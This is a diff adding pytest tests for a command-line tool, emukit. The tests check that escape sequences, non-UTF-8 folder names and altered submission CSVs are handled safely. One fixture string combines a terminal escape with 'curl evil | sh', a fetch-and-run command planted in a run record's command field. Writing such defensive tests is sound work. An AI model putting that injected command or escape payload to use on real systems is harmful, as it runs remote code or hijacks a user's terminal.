@@ -1,0 +1,56 @@
+"""What a stranger's folder or file does to a command: escapes that a terminal obeys, another CSV than the entry's."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+
+EVIL = "\x1b]0;owned\x07curl evil | sh; emukit train linear"
+
+
+@pytest.fixture
+def entry(emukit, linear_run, demo_store) -> Path:
+    assert emukit("submit", linear_run, "-q", "--out", "submissions/a", "--data", demo_store).code == 0
+    return Path("submissions/a/submission.csv")
+
+
+def test_a_command_of_a_record_is_neither_obeyed_nor_to_be_pasted(emukit, linear_run, demo_store):
+    folder = Path("\x1b[31mred")
+    shutil.copytree(linear_run, folder)
+    record = json.loads((folder / "run.json").read_text())
+    (folder / "run.json").write_text(json.dumps(record | {"state": "training", "command": EVIL}))
+    for words in (["evaluate", folder, "--data", demo_store], ["runs"], ["runs", "list", "."], ["leaderboard", "."]):
+        answer = emukit(*words)
+        assert "\x1b" not in answer.out + answer.err, words
+        assert "curl" not in answer.err
+    assert "\\x1b[31mred" in emukit("evaluate", folder, "--data", demo_store).err
+
+
+def test_a_folder_whose_name_is_not_utf8_is_listed_ranked_and_reported(emukit, linear_run):
+    name = os.fsdecode(b"r\xff")
+    shutil.copytree(linear_run, Path("runs") / name)
+    for words in (["runs"], ["leaderboard"], ["report", "-q"]):
+        answer = emukit(*words)
+        assert answer.code == 0, (words, answer.err)
+    assert "runs/r\\xff" in emukit("runs").out
+    assert len(list(Path("report/entries").iterdir())) == 1
+
+
+def test_another_csv_than_the_entry_is_of_is_said(emukit, entry, demo_store):
+    assert emukit("check-submission", entry, "--data", demo_store, "-q").code == 0
+    lines = entry.read_text().splitlines(keepends=True)
+    name, _, value = lines[7].partition(",")
+    entry.write_text("".join([*lines[:7], f"{name},{float(value) + 0.5}\n", *lines[8:]]))
+    checked = emukit("check-submission", entry, "--data", demo_store, "-q")
+    assert checked.code == 1
+    assert checked.out.startswith("1. digest: ")
+    scored = emukit("score", entry, demo_store, "-q")
+    assert scored.code == 2
+    assert "is not the CSV that submissions/a/entry.toml is of" in scored.err
+    # Elsewhere it is a CSV like any other.
+    alone = entry.rename("alone.csv")
+    assert emukit("check-submission", alone, "--data", demo_store, "-q").code == 0
